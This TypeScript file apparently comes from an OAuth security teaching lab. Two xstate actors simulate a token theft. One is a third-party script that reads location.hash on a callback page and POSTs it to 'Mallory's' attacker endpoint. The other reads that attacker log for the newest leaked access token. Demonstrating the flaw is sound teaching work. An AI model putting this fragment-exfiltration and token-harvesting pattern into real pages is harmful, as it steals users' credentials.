import { fromPromise } from 'xstate';
import { attackerUrl, readAttackerLog } from '@/lib/attack-lab/attacker-log';
import { recordFetch } from '@/lib/http-trace/record';
import { ok } from '@/lib/oauth-client/result';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { networkFailure, type StepInput, type StepOutput } from '../step-output';

/**
 * The third-party script on the legacy SPA's callback page (simulated: an analytics or widget script
 * the app included). It does what any script on the page can: read `location.hash` and send it on.
 * Its request is recorded from the browser to Mallory's site.
 */
export const thirdPartyScriptActor = fromPromise<
  StepOutput<boolean>,
  StepInput<{ origin: string; realm: RealmDescriptor; callbackUrl: string }>
>(async ({ input }) => {
  const { step } = input;
  let hash = '';
  try {
    hash = new URL(input.callbackUrl).hash.slice(1);
  } catch {
    hash = '';
  }
  if (!hash) return { step, exchanges: [], facts: [{ label: 'location.hash', value: '(empty: nothing to send)' }], result: ok(false) };
  try {
    const request = new Request(`${input.origin}${attackerUrl(input.realm, 'fragment')}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ fragment: hash.slice(0, 4096) }),
    });
    const { exchange } = await recordFetch(request, { step, from: 'browser', to: 'attacker' });
    return { step, exchanges: [exchange], facts: [{ label: 'location.hash', value: `#${hash.slice(0, 60)}…` }], result: ok(true) };
  } catch (e) {
    return networkFailure(step, e);
  }
});

/** Mallory reads her site's log (GET /attacker/{realm}/log, the Attacker's console shows it) for the newest leaked access token. */
export const readLootActor = fromPromise<StepOutput<string | undefined>, StepInput<{ origin: string; realm: RealmDescriptor }>>(
  async ({ input }) => {
    const { step } = input;
    try {
      const records = await readAttackerLog(input.realm, (u, init) => fetch(new URL(String(u), input.origin), init));
      const token = records
        .map((r) => r.fields.access_token ?? r.query.access_token)
        .filter((t): t is string => typeof t === 'string' && t !== '')
        .at(-1);
      return { step, exchanges: [], facts: [{ label: 'records on her site', value: String(records.length) }], result: ok(token) };
    } catch (e) {
      return networkFailure(step, e);
    }
  },
);
